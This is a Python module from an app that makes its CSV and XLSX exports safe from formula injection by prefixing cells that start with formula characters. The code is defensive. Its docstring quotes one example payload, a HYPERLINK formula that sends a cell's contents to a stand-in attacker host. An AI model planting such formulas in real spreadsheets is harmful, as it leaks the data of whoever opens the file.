"""Every spreadsheet and CSV the app writes goes through here, so no text becomes a formula.

A company named `=HYPERLINK("http://evil.example/?"&A2, "Invoice")` or a note starting with `+`,
`-` or `@` is run as a formula by Excel or LibreOffice when the accountant opens the export
(CSV/formula injection, issue #15, F8). OWASP's advice: prefix such text with a single quote.
Numbers, dates and empty cells are left alone (a negative amount stays a number).

Numbers are written as numbers: a rate is the number 0.62 shown "62 %" by the cell's number format
(`percent(0.62)`), never the text "62 %" that a spreadsheet can't sum or sort (`Formatted`).

Writers never build an openpyxl `Workbook` or a `csv.writer` themselves: they use `workbook()`,
`csv_writer()` and `DictWriter` below (binome/lib/tests/test_spreadsheets.py fails on a module
of binome/ that does).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

# What spreadsheet programs read as the start of a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


PERCENT = "0%"
DECIMAL_2 = "0.00"


@dataclass(frozen=True)
class Formatted:
    """A number and the number format its cell shows it with (in an XLSX; a CSV gets the number)."""

    value: float | int
    number_format: str


def percent(rate: float | None) -> Formatted | None:
    """A rate (0.62) as a number cell shown as a percentage ("62 %"); None stays an empty cell."""
    return None if rate is None else Formatted(rate, PERCENT)


def safe_cell(value: Any) -> Any:
    """The value to write in a cell: text that a spreadsheet would run is prefixed with `'`."""
    if isinstance(value, Formatted):
        return value.value
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def workbook() -> SafeWorkbook:
    """A new XLSX workbook (openpyxl) whose sheets only ever hold safe cells. openpyxl (which
    imports numpy when it is installed) loads here, on the first export, not in every web worker."""
    from binome.lib.xlsx_workbook import SafeWorkbook

    return SafeWorkbook()


class _SafeCsvWriter:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: Any, **options: Any) -> _SafeCsvWriter:
    """`csv.writer(handle, **options)` whose rows only ever hold safe cells."""
    return _SafeCsvWriter(csv.writer(handle, **options))


class DictWriter(csv.DictWriter[str]):
    """`csv.DictWriter` whose rows only ever hold safe cells."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


if TYPE_CHECKING:
    from binome.lib.xlsx_workbook import SafeWorkbook
